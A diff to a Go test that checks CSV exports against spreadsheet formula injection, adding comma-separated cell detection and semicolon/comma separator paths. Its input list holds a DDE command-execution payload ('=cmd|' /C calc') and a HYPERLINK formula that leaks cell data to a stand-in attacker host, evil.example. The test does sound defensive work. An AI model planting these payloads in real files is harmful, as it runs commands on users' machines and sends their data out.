@@ -19,6 +19,9 @@ import (
 // formula is what a spreadsheet program would carry out: at the begin of a cell, or behind what it may take for the end of one.
 var formula = regexp.MustCompile(`(^|[;\t\r\n])[\s\x{feff}\x{200b}\x{a0}]*[=+\-@＝＋－＠]`)
 
+// formulaBehindComma also takes a comma for the end of a cell: with semicolons such cells are not quoted.
+var formulaBehindComma = regexp.MustCompile(`(^|[,;\t\r\n])[\s\x{feff}\x{200b}\x{a0}]*[=+\-@＝＋－＠]`)
+
 func TestNoFileHoldsAFormula(t *testing.T) {
 	t.Parallel()
 	var mu sync.Mutex
@@ -35,24 +38,28 @@ func TestNoFileHoldsAFormula(t *testing.T) {
 	wire.next = s.Sandbox.Transport()
 	s.SignIn()
 	for _, next := range []string{
-		"=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\ufeff=1", "\u200b@x", "＝1", "＋1", "－1", "＠x", "x;=1", "x\r\n=1", "x\t=1", "x; \u200b=1",
+		"=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\ufeff=1", "\u200b@x", "＝1", "＋1", "－1", "＠x", "x;=1", "x\r\n=1", "x\t=1", "x; \u200b=1", "x,=1", "x, \u200b@1",
 		`",=1`, `"&=1`, "';=1", "=HYPERLINK(\"https://evil.example/?\"&A1)", "%0A=1", "|=1",
 	} {
 		mu.Lock()
 		attack = next
 		mu.Unlock()
-		for _, path := range []string{"/groups.csv", "/members.csv", "/guests.csv", s.GroupPath("Operations") + "/people.csv"} {
+		for _, path := range []string{"/groups.csv", "/members.csv", "/guests.csv", s.GroupPath("Operations") + "/people.csv", "/members.csv?separator=semicolon", "/groups.csv?separator=comma"} {
 			p := s.Get(path)
 			assert.Equal(t, "text/csv; charset=utf-8", p.Header.Get("Content-Type"))
 			assert.Equal(t, "nosniff", p.Header.Get("X-Content-Type-Options"))
 			assert.True(t, strings.HasPrefix(p.Header.Get("Content-Disposition"), "attachment; "))
 			assert.Equal(t, "no-store", p.Header.Get("Cache-Control"))
-			rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(p.Body, "\ufeff"))).ReadAll()
+			reader, runs := csv.NewReader(strings.NewReader(strings.TrimPrefix(p.Body, "\ufeff"))), formula
+			if strings.HasSuffix(path, "semicolon") {
+				reader.Comma, runs = ';', formulaBehindComma
+			}
+			rows, err := reader.ReadAll()
 			require.NoError(t, err)
 			require.Greater(t, len(rows), 3, path)
 			hit := 0
 			for _, cell := range slices.Concat(rows[1:]...) {
-				assert.NotRegexp(t, formula, cell, "%s with %q", path, next)
+				assert.NotRegexp(t, runs, cell, "%s with %q", path, next)
 				if strings.Contains(strings.NewReplacer("'", "", "\r\n", "", "\n", "").Replace(cell), strings.NewReplacer("'", "", "\r\n", "", "\n", "", "\r", "").Replace(next)) {
 					hit++
 				}
